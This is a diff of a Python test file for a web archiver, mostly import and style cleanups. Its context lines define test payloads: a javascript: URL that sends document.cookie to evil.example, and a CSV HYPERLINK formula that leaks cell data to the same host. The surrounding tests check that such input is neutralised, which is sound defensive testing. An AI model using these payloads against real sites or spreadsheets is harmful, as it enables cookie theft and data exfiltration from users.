@@ -12,20 +12,20 @@ import asyncio
 import csv
 import io
 import sqlite3
-from datetime import datetime, timezone
+from datetime import UTC, datetime
 from pathlib import Path
 
 import pytest
 from bs4 import BeautifulSoup
+from support import run_archiver
 
 from archiver.article import Article
 from archiver.serve import make_datasette
 from archiver.store import Archive, article_id
 from archiver.ui import record_slug
 from archiver.warc import WarcWriter
-from support import run_archiver
 
-WHEN = datetime(2026, 11, 20, 9, 0, 0, tzinfo=timezone.utc)
+WHEN = datetime(2026, 11, 20, 9, 0, 0, tzinfo=UTC)
 EVIL_URL = "javascript:fetch('//evil.example/?'+document.cookie)//https://demo.example/a"
 GOOD_URL = "https://demo.example/politics/ok"
 FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
@@ -197,9 +197,8 @@ def test_csv_exports_neutralise_formulas(archive, path):
 
 
 def test_csv_rewriter_keeps_numbers_quotes_and_newlines():
-    from importlib import import_module
-
     import sys
+    from importlib import import_module
 
     sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "datasette" / "plugins"))
     try:
@@ -303,7 +302,7 @@ def test_an_archived_image_pointing_at_the_sql_api_runs_no_query_in_a_real_brows
     async def recording(scope, receive, send):
         async def record(message):
             if message["type"] == "http.response.start":
-                headers = dict((k.lower(), v) for k, v in scope.get("headers", []))
+                headers = {k.lower(): v for k, v in scope.get("headers", [])}
                 dest = headers.get(b"sec-fetch-dest", b"").decode()
                 answered.append(
                     (scope["path"] + "?" + scope.get("query_string", b"").decode(), message["status"], dest)
